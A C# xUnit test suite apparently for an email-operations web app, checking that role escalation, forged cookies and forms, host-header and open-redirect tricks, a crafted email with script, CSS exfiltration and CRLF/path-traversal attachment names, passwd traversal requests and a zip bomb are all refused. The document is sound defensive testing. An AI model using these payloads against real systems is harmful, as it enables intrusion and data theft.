using System.IO.Compression;
using System.Net;
using System.Text;
using EmailOps.Core.Contracts;
using EmailOps.Tests.Hosts;
using EmailOps.Tests.Web;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;

namespace EmailOps.Tests.Access;

/// <summary>Attacks on one started installation, by strangers and by people who want more than their role allows.</summary>
public sealed class AttackTests(GuardedInstallation at) : IClassFixture<GuardedInstallation>
{
    private static readonly string[] OfTheOwnSession = [AccessRoutes.Session, AccessRoutes.Sessions, AccessRoutes.SessionPassword];

    [Fact]
    public async Task No_route_that_changes_something_obeys_a_viewer_and_none_of_an_administrator_an_operator()
    {
        using var viewer = at.With((await at.SessionAsync(await at.PersonAsync(UserRole.Viewer))).Token);
        using var operated = at.With((await at.SessionAsync(await at.PersonAsync(UserRole.Operator))).Token);
        var tried = 0;
        foreach (var endpoint in at.Api.Services.GetServices<EndpointDataSource>().SelectMany(s => s.Endpoints).OfType<RouteEndpoint>())
        {
            var policies = endpoint.Metadata.GetOrderedMetadata<IAuthorizeData>().Select(a => a.Policy).ToList();
            var path = "/" + string.Join('/', endpoint.RoutePattern.PathSegments.Select(s => string.Concat(s.Parts.Select(p => p is Microsoft.AspNetCore.Routing.Patterns.RoutePatternLiteralPart literal ? literal.Content : "1"))));
            foreach (var method in endpoint.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods ?? [])
            {
                if (OfTheOwnSession.Contains(endpoint.RoutePattern.RawText)) continue;
                foreach (var (caller, refused) in new[] { (viewer, policies.Contains("operate") || policies.Contains("admin")), (operated, policies.Contains("admin")) })
                {
                    if (!refused) continue;
                    // The name of somebody else in the header changes nothing.
                    using var request = new HttpRequestMessage(new HttpMethod(method), path) { Headers = { { "X-Operator", "installation" } } };
                    using var answer = await caller.Http.SendAsync(request);
                    Assert.True(answer.StatusCode == HttpStatusCode.Forbidden, $"{method} {path} answered {(int)answer.StatusCode} to a role that may not.");
                    tried++;
                }
            }
        }
        Assert.True(tried > 60, $"Only {tried} calls were tried.");
    }

    [Fact]
    public async Task A_form_that_a_viewer_forges_in_the_console_is_refused_there_and_would_be_by_the_api()
    {
        using var browser = await at.BrowserAsync(await at.PersonAsync(UserRole.Viewer));
        foreach (var path in new[] { "/status/trigger", "/orders/pause", "/access/users", "/access/users/1", "/access/keys", "/sign-in-links" })
        {
            using var forged = await browser.SubmitAsync("/account", path, ("name", "Eve"), ("role", "Admin"), ("scope", "admin"), ("version", "1"), ("disabled", "false"));
            Assert.True(forged.StatusCode == HttpStatusCode.Forbidden, $"{path} answered {(int)forged.StatusCode}.");
        }
        Assert.Equal(HttpStatusCode.Forbidden, (await browser.GetAsync("/access/audit")).StatusCode);
        Assert.DoesNotContain(await at.Owner.GetAsync<UserView[]>(AccessRoutes.Users), u => u.Name == "Eve");
    }

    [Fact]
    public async Task The_audit_names_the_person_of_the_session_whoever_the_request_names()
    {
        var person = await at.PersonAsync(UserRole.Operator);
        using var caller = at.With((await at.SessionAsync(person)).Token);
        (await caller.SendAsync(HttpMethod.Post, OperationRoutes.Pause, new StandingOrder("mine"))).Dispose(); // says X-Operator: Olga
        (await caller.SendAsync(HttpMethod.Post, OperationRoutes.Resume, null)).Dispose();
        var key = await at.Owner.SendAsync<KeyAdded>(HttpMethod.Post, AccessRoutes.Keys, new AddKey($"robot {person.Id}", "operate", 30));
        using var robot = at.With(key.Secret);
        (await robot.SendAsync(HttpMethod.Post, Routes.ProcessTrigger, null)).Dispose();

        var audit = (await at.Owner.GetAsync<AuditPage>("/audit?take=200")).Items;
        Assert.Contains(audit, e => e.Action == "automation.pause" && e.Actor == person.Name);
        Assert.Contains(audit, e => e.Action == "process.trigger" && e.Actor == $"Olga (key:robot {person.Id})");
        Assert.DoesNotContain(audit, e => e.Action == "automation.pause" && e.Actor == "Olga");
    }

    [Fact]
    public async Task Forged_changed_and_stale_cookies_open_nothing()
    {
        var person = await at.PersonAsync(UserRole.Admin);
        using var browser = at.Browser();
        using var answer = await browser.SubmitAsync("/sign-in", "/sign-in", ("name", person.Name), ("password", GuardedInstallation.Password));
        var cookie = answer.Headers.GetValues("Set-Cookie").First(v => v.StartsWith("emailops=", StringComparison.Ordinal)).Split(';')[0];
        Assert.Equal(HttpStatusCode.OK, await OpenAsync(cookie));
        var middle = cookie.Length / 2;
        foreach (var forged in new[] { "emailops=", "emailops=admin", $"emailops={Convert.ToBase64String(Encoding.UTF8.GetBytes("{\"role\":\"Admin\"}"))}", cookie[..^9], cookie[..middle] + (cookie[middle] == 'A' ? 'B' : 'A') + cookie[(middle + 1)..] })
            Assert.Equal(HttpStatusCode.Redirect, await OpenAsync(forged));
        using var left = await browser.SubmitAsync("/account", "/sign-out");
        Assert.Equal(HttpStatusCode.Redirect, await OpenAsync(cookie));

        async Task<HttpStatusCode> OpenAsync(string value)
        {
            using var stranger = new HttpClient(new SocketsHttpHandler { AllowAutoRedirect = false, UseCookies = false }) { BaseAddress = at.Web.Address() };
            using var request = new HttpRequestMessage(HttpMethod.Get, "/account");
            request.Headers.TryAddWithoutValidation("Cookie", value);
            return (await stranger.SendAsync(request)).StatusCode;
        }
    }

    [Fact]
    public async Task A_form_of_another_site_and_a_token_of_another_session_are_refused()
    {
        using var mine = await at.BrowserAsync(await at.PersonAsync(UserRole.Admin));
        using var theirs = await at.BrowserAsync(await at.PersonAsync(UserRole.Admin));
        var token = Forms.Token(await theirs.GetStringAsync("/account"));
        foreach (var fields in new[] { new Dictionary<string, string>(), new() { ["__RequestVerificationToken"] = token } })
        {
            fields["name"] = "grafana";
            fields["scope"] = "admin";
            using var answer = await mine.PostAsync("/access/keys", new FormUrlEncodedContent(fields));
            Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        }
        Assert.DoesNotContain(await at.Owner.GetAsync<KeyView[]>(AccessRoutes.Keys), k => k.Name == "grafana");
    }

    [Fact]
    public async Task A_key_in_the_address_and_a_foreign_host_count_for_nothing()
    {
        using var nobody = at.With(null);
        foreach (var path in new[] { $"/messages?X-Api-Key={TestHosts.Key}", $"/messages?api_key={TestHosts.Key}", $"/messages?access_token={TestHosts.Key}" })
        {
            using var answer = await nobody.Http.GetAsync(path);
            await ApiCaller.ProblemAsync(answer, 401);
        }
        using var browser = at.Browser();
        using var asked = new HttpRequestMessage(HttpMethod.Get, "/outbox") { Headers = { Host = "evil.example.test" } };
        using var redirect = await browser.SendAsync(asked);
        Assert.Equal("/sign-in?returnUrl=%2Foutbox", redirect.Headers.Location?.ToString());
        using var page = new HttpRequestMessage(HttpMethod.Get, "/sign-in") { Headers = { Host = "evil.example.test" } };
        page.Headers.Add("X-Forwarded-Host", "evil.example.test");
        Assert.DoesNotContain("evil.example", await (await browser.SendAsync(page)).Content.ReadAsStringAsync(), StringComparison.Ordinal);
        using var led = await browser.SubmitAsync("/sign-in", "/sign-in", ("name", (await at.PersonAsync(UserRole.Viewer)).Name), ("password", GuardedInstallation.Password), ("returnUrl", "//evil.example.test/"));
        Assert.Equal("/", led.Headers.Location?.ToString());
    }

    [Fact]
    public async Task What_a_mail_brings_neither_runs_nor_leaves_its_place()
    {
        const string mail = "Message-ID: <attack@evil.example>\r\nFrom: \"<script>alert(1)</script>\" <eve@evil.example>\r\nTo: support@shop.example\r\nSubject: =?utf-8?q?Re=3A_=3Cimg_src=3Dx_onerror=3Dalert(1)=3E=0D=0ABcc=3A_victim=40bank.example?=\r\n"
            + "Date: Mon, 16 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
            + "--b\r\nContent-Type: text/html\r\n\r\n<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/y)}</style><svg onload=alert(1)><script>alert(2)</script></svg><form action=https://evil.example><input name=p></form><a href=\"javascript:alert(3)\">x</a><iframe src=//evil.example></iframe><p>Hello</p>\r\n"
            + "--b\r\nContent-Type: image/svg+xml; name=\"../../../../etc/cron.d/evil.svg\"\r\nContent-Disposition: attachment; filename=\"..\\\\..\\\\evil\\r\\nX-Evil: 1.svg\"\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\r\n--b--\r\n";
        using var uploaded = await at.Owner.UploadAsync(("x.eml", Encoding.UTF8.GetBytes(mail)));
        Assert.Equal(HttpStatusCode.OK, uploaded.StatusCode);
        var id = await at.Store.AskAsync<long>("select id from message where internet_message_id like '%attack@evil.example%'");
        using var browser = await at.BrowserAsync(await at.PersonAsync(UserRole.Viewer));

        var page = await browser.GetStringAsync($"/messages/{id}");
        Assert.DoesNotContain("<script>alert", page, StringComparison.Ordinal);
        Assert.DoesNotContain("<img src=x", page, StringComparison.Ordinal);
        using var html = await browser.GetAsync($"/messages/{id}/html");
        Assert.StartsWith("sandbox; default-src 'none'", Assert.Single(html.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
        using var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(await browser.GetStringAsync($"/messages/{id}?view=html"));
        var frame = Assert.Single(document.QuerySelectorAll("iframe"));
        Assert.DoesNotContain("allow-scripts", frame.GetAttribute("sandbox"), StringComparison.Ordinal);
        Assert.DoesNotContain("allow-forms", frame.GetAttribute("sandbox"), StringComparison.Ordinal);
        Assert.Equal($"/messages/{id}/html", frame.GetAttribute("src"));
        using var straight = await at.Owner.Http.GetAsync($"/messages/{id}/html");
        Assert.StartsWith("sandbox", Assert.Single(straight.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);

        foreach (var file in new[] { await browser.GetAsync($"/messages/{id}/attachments/0"), await at.Owner.Http.GetAsync($"/messages/{id}/attachments/0") })
        {
            Assert.Equal(HttpStatusCode.OK, file.StatusCode);
            Assert.Equal("application/octet-stream", file.Content.Headers.ContentType?.MediaType);
            Assert.Equal("nosniff", Assert.Single(file.Headers.GetValues("X-Content-Type-Options")));
            var name = file.Content.Headers.ContentDisposition!.FileNameStar ?? file.Content.Headers.ContentDisposition.FileName!;
            Assert.Equal("attachment", file.Content.Headers.ContentDisposition.DispositionType);
            Assert.DoesNotContain("..", name, StringComparison.Ordinal);
            Assert.DoesNotContain('/', name);
            Assert.DoesNotContain('\\', name);
            Assert.False(file.Headers.Contains("X-Evil"));
        }
        foreach (var path in new[] { $"/messages/{id}/attachments/..%2f..%2fetc%2fpasswd", "/assets/x/..%2f..%2f..%2fetc%2fpasswd", $"/messages/{id}/attachments/99" })
            Assert.Equal(HttpStatusCode.NotFound, (await browser.GetAsync(path)).StatusCode);
    }

    [Fact]
    public async Task Bombs_and_what_is_too_large_are_refused_or_kept_as_what_they_are()
    {
        using var packed = new MemoryStream();
        using (var zip = new ZipArchive(packed, ZipArchiveMode.Create, leaveOpen: true))
        {
            var entry = zip.CreateEntry("bomb.eml", CompressionLevel.SmallestSize);
            await using var inside = await entry.OpenAsync();
            await inside.WriteAsync("From: a@b.example\r\n\r\n"u8.ToArray());
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 64; i++) await inside.WriteAsync(zeros);
        }
        var before = await at.Store.AskAsync<long>("select count(*) from message");
        using var bomb = await at.Owner.UploadAsync(("bomb.zip", packed.ToArray()));
        Assert.NotEqual(HttpStatusCode.InternalServerError, bomb.StatusCode);
        Assert.Equal(before, await at.Store.AskAsync<long>("select count(*) from message"));

        using var browser = await at.BrowserAsync(await at.PersonAsync(UserRole.Operator));
        using var form = new MultipartFormDataContent { { new StringContent(Forms.Token(await browser.GetStringAsync("/import"))), "__RequestVerificationToken" }, { new ByteArrayContent(new byte[3 << 20]), "files", "large.eml" } };
        using var large = await browser.PostAsync("/import", form);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, large.StatusCode);
    }

    [Fact]
    public async Task Who_asks_too_much_is_told_when_to_come_again_and_others_are_not_held_up()
    {
        using var greedy = at.With((await at.SessionAsync(await at.PersonAsync(UserRole.Viewer))).Token);
        using var other = at.With((await at.SessionAsync(await at.PersonAsync(UserRole.Viewer))).Token);
        HttpResponseMessage? refused = null;
        // 600 a minute, ten more each second that this takes.
        for (var i = 0; i < 3000 && refused is null; i += 20)
            refused = (await Task.WhenAll(Enumerable.Range(0, 20).Select(_ => greedy.Http.GetAsync(AccessRoutes.Session)))).FirstOrDefault(a => a.StatusCode == HttpStatusCode.TooManyRequests);
        Assert.NotNull(refused);
        await ApiCaller.ProblemAsync(refused, 429);
        Assert.True(refused.Headers.RetryAfter?.Delta >= TimeSpan.FromSeconds(1));
        await other.GetAsync<CallerView>(AccessRoutes.Session);
        Assert.Equal(HttpStatusCode.OK, (await greedy.Http.GetAsync("/health")).StatusCode);
    }

    [Fact]
    public async Task A_secret_that_is_shown_once_is_kept_nowhere_also_when_the_call_may_be_repeated()
    {
        var name = $"once {Guid.NewGuid():n}";
        using var asked = new HttpRequestMessage(HttpMethod.Post, AccessRoutes.Keys) { Content = System.Net.Http.Json.JsonContent.Create(new AddKey(name, "read", 5)), Headers = { { "Idempotency-Key", name.Replace(' ', '-') } } };
        using var made = await at.Owner.Http.SendAsync(asked);
        var secret = (await ApiCaller.ReadAsync<KeyAdded>(made)).Secret;
        using var twice = new HttpRequestMessage(HttpMethod.Post, AccessRoutes.Keys) { Content = System.Net.Http.Json.JsonContent.Create(new AddKey(name, "read", 5)), Headers = { { "Idempotency-Key", name.Replace(' ', '-') } } };
        using var again = await at.Owner.Http.SendAsync(twice);
        await ApiCaller.ProblemAsync(again, 409);
        foreach (var table in await at.Store.ColumnAsync<string>("select table_name::text from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'"))
            Assert.Equal(0, await at.Store.AskAsync<long>($"select count(*) from \"{table}\" t where position('{secret}' in t::text) > 0 or position(encode(convert_to('{secret}', 'UTF8'), 'hex') in t::text) > 0"));
    }

    [Fact]
    public async Task Every_answer_of_the_api_carries_its_headers_also_those_that_failed()
    {
        using var nobody = at.With(null);
        Assert.Contains("emailops_api_refused_total{status=\"401\"}", (await RefusedAsync(nobody)), StringComparison.Ordinal);
        foreach (var answer in new[] { await nobody.Http.GetAsync("/health"), await nobody.Http.GetAsync("/messages"), await nobody.Http.GetAsync("/no/such/path"), await at.Owner.Http.GetAsync("/messages") })
        {
            Assert.Contains("default-src 'none'", Assert.Single(answer.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
            Assert.Equal("nosniff", Assert.Single(answer.Headers.GetValues("X-Content-Type-Options")));
            Assert.Equal("DENY", Assert.Single(answer.Headers.GetValues("X-Frame-Options")));
            Assert.False(answer.Headers.Contains("Server"));
        }
    }

    private static async Task<string> RefusedAsync(ApiCaller nobody)
    {
        using var refused = await nobody.Http.GetAsync("/messages");
        await ApiCaller.ProblemAsync(refused, 401);
        return await nobody.Http.GetStringAsync("/metrics");
    }
}
